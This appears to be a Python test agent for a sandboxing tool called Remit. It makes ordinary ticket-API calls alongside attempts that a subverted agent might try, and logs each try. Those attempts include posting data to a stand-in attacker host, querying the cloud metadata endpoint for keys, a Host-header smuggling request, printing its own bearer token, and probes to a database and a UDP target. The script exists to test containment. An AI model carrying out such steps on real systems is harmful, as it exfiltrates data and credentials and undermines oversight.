"""A small agent, unmodified by Remit: it uses whatever the machine has and reports each try as one JSON line.

It knows nothing of cells, policies or proxies. Some of what it tries is its job, some is what an agent that was
talked into something would try.
"""

import json
import os
import shutil
import socket
import subprocess
import sys
import urllib.error
import urllib.request

API = "https://api.demo.example"


def report(name: str, outcome: str, detail: str = "") -> None:
    print(json.dumps({"try": name, "outcome": outcome, "detail": detail}), flush=True)


def fetch(url: str, data: bytes | None = None, headers: dict[str, str] | None = None) -> tuple[int, str]:
    request = urllib.request.Request(url, data=data, headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=15) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()
    except OSError as error:
        return 0, str(error)


def http(name: str, url: str, data: bytes | None = None, headers: dict[str, str] | None = None) -> None:
    status, body = fetch(url, data, headers)
    report(name, str(status), body[:2000])


def command(name: str, *argv: str) -> None:
    if shutil.which(argv[0]) is None:
        report(name, "absent", f"{argv[0]} is not installed")
        return
    done = subprocess.run(argv, capture_output=True, text=True, timeout=30)
    report(name, str(done.returncode), (done.stdout or done.stderr)[-2000:])


def main() -> int:
    token = os.environ["TICKETS_TOKEN"]
    mine = {"Authorization": f"Bearer {token}"}
    report("the token in my environment", "seen", token)
    http("python reads a ticket", f"{API}/tickets/7", headers=mine)
    http("python writes a ticket", f"{API}/tickets", b'{"title":"disk full"}', mine)
    command("curl reads a ticket", "curl", "-sS", "-m", "15", f"{API}/tickets/7")
    command(
        "git clones the team's repository",
        "git",
        "clone",
        "-q",
        "https://src.git.demo.example/team/tool.git",
        "/tmp/tool",
    )
    node = f"fetch('{API}/tickets/7').then(r => r.text()).then(console.log, e => {{ console.log(e); process.exit(1) }})"
    command("node reads a ticket", "node", "-e", node)
    http("python closes a ticket", f"{API}/tickets/7/close", b"{}", mine)
    http("python asks for the admin page", f"{API}/admin", headers=mine)
    http("python sends the data to a stranger", "https://collect.attacker.example/drop", b"all the tickets")
    http("python asks the cloud for its keys", "http://169.254.169.254/latest/meta-data/")
    command(
        "curl asks for one host inside another's connection",
        "curl",
        "-sS",
        "-m",
        "15",
        "-H",
        "Host: collect.attacker.example",
        f"{API}/tickets/7",
    )
    try:
        with socket.create_connection(("db.demo.example", 5432), timeout=10) as connection:
            connection.sendall(b"\x00\x00\x00\x08\x04\xd2\x16\x2f")
            answer = connection.recv(1)
        report("python opens a database connection", "closed" if answer in (b"", b"N") else "open")
    except OSError as error:
        report("python opens a database connection", "closed", str(error))
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.settimeout(2)
            udp.connect(("198.51.100.1", 443))
            udp.send(b"quic")
            udp.recv(1)
        report("python sends UDP past the boundary", "open")
    except OSError as error:
        report("python sends UDP past the boundary", "refused", str(error))
    return 0


def stream() -> int:
    """Follow the event stream until it ends; `watching` is printed when the first event is in."""
    try:
        with urllib.request.urlopen("https://events.demo.example/stream", timeout=60) as answer:
            while line := answer.readline():
                if line == b"data: 1\n":
                    report("the event stream", "watching")
    except (OSError, ValueError) as error:
        report("the event stream", "cut", str(error))
    else:
        report("the event stream", "cut", "end of stream")
    http("after the revocation, a ticket", f"{API}/tickets/7")
    return 0


if __name__ == "__main__":
    sys.exit(stream() if sys.argv[1:] == ["stream"] else main())
